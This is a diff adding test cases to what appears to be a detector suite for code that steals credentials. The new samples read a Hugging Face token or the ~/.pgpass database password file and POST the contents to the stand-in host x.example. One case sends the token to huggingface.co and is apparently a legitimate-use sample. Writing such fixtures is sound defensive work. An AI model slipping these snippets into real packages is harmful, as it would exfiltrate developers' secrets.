@@ -294,6 +294,20 @@ export default defineCases({
           "exports.Http = class { constructor(u) { this.u = u } send(body) { return fetch(this.u, { method: 'POST', body }) } }",
       },
     },
+    {
+      name: 'the token of a developer service',
+      code: "import { readFile } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nconst body = await readFile(join(homedir(), '.cache', 'huggingface', 'token'), 'utf8');\nawait fetch('https://x.example', { method: 'POST', body });",
+    },
+    {
+      name: 'the passwords of databases',
+      code: "const fs = require('fs'), os = require('os');\nfetch('https://x.example', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.pgpass') })",
+    },
+    {
+      name: 'the token that the tool of its own service keeps, when its command starts',
+      noted: true,
+      manifest: { type: 'module', bin: 'index.js' },
+      code: "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nconst token = readFileSync(homedir() + '/.cache/huggingface/token', 'utf8');\nawait fetch('https://huggingface.co/api/whoami', { headers: { authorization: token } });",
+    },
   ],
   ok: [
     {
